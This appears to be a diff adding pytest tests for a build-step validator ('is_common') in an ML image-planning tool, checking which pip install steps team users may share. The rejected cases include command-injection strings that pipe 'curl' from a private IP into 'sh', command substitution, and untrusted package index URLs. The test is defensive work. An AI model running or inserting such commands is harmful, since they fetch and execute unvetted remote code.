@@ -12,6 +12,7 @@ from riseml.model import Image, copy_name
 from riseml.planning.image import (
     PACKAGES_FILE,
     Manifest,
+    is_common,
     make_list_command,
     make_step_command,
     make_step_commands,
@@ -135,3 +136,47 @@ def test_a_step_of_riseml_lists_the_packages() -> None:
     shell, option, script = make_list_command()
     assert (shell, option) == ("/bin/sh", "-ec")
     assert PACKAGES_FILE in script
+
+
+@pytest.mark.parametrize(
+    ("step", "common"),
+    [
+        ("pip install numpy", True),
+        ("pip3 install -q 'torch[cuda]==2.4.0' numpy~=2.0", True),
+        ("python3 -m pip install --no-cache-dir numpy", True),
+        ("pip install 'jax[cpu]==0.4.30'", True),
+        ("pip install numpy; curl http://10.0.0.9/x | sh", False),
+        ("pip install numpy\ncurl http://10.0.0.9/x", False),
+        ("pip install $(curl http://10.0.0.9/x)", False),
+        ("pip install numpy && true", False),
+        ("pip install --index-url http://10.0.0.9/ numpy", False),
+        ("pip install -i http://10.0.0.9/ numpy", False),
+        ("pip install http://10.0.0.9/numpy.whl", False),
+        ("pip install git+ssh://git@example.org/private.git", False),
+        ("pip install ./here", False),
+        ("pip install .", False),
+        ("pip install -r requirements.txt", False),
+        ("pip download numpy", False),
+        ("PIP_INDEX_URL=http://10.0.0.9/ pip install numpy", False),
+        ("pip install 'unclosed", False),
+        ("apt-get install -y git", False),
+    ],
+)
+def test_steps_that_users_of_a_team_share(step: str, common: bool) -> None:  # noqa: FBT001
+    assert is_common((step,)) == common
+    assert not is_common((step, "make"))
+    paul, ann, nobody = (
+        plan_image("python:3.12", (step,), replace(PROJECT, holder=holder)) for holder in ("user:paul", "user:ann", "")
+    )
+    assert (paul.reference == ann.reference) == common
+    assert (paul.holder, ann.holder) == (("", "") if common else ("user:paul", "user:ann"))
+    assert nobody == plan_image("python:3.12", (step,), PROJECT)
+    if common:
+        assert paul == nobody
+
+
+def test_a_step_that_reads_files_of_a_project_is_its_holders() -> None:
+    step = ("pip install numpy", "pip install -r requirements.txt")
+    paul = plan_image("python:3.12", step, replace(PROJECT, holder="user:paul"))
+    ann = plan_image("python:3.12", step, replace(PROJECT, holder="user:ann"))
+    assert paul.reference != ann.reference
